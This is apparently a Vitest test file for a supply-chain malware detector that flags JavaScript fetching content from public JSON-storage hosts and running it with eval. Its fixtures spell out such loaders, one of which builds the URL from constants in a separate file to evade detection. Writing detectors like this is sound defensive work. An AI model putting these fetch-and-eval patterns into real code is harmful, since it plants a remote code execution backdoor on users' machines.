import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './json-storage-to-code.ts';

describe('json-storage-to-code', () => {
  it('T45: a document of a store is run', async () => {
    for (const url of [
      'https://api.npoint.io/00000000000000000000',
      'https://www.jsonkeeper.com/b/FIXT',
      'https://fixture-not-real.tiiny.site/index.json',
    ]) {
      const code = `const axios = require('axios'); axios.get('${url}').then(res => eval(res.data.cookie));`;
      expect(
        (await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight),
        url,
      ).toEqual(['proof']);
    }
  });

  it('T44: from constants of another file', async () => {
    const files = {
      'utils/constant.js': `const domain = 'npoint.io'; const subdomain = 'api'; const id = '00000000000000000000'; module.exports = { domain, subdomain, id };`,
      'a.js': `const { domain, subdomain, id } = require('./utils/constant'); const GET_RPCNODE_URL = \`https://\${subdomain}.\${domain}/\${id}\`; const axios = require('axios'); axios.get(GET_RPCNODE_URL).then(r => eval(r.data.cookie));`,
    };
    expect((await hitsOf(detector, files)).map((hit) => hit.weight)).toEqual(['proof']);
  });

  it('twin: mock data that is shown', async () => {
    expect(
      await hitsOf(detector, {
        'a.js': `fetch('https://api.npoint.io/00000000000000000000').then(r => r.json()).then(show); eval('1')`,
      }),
    ).toEqual([]);
  });
});
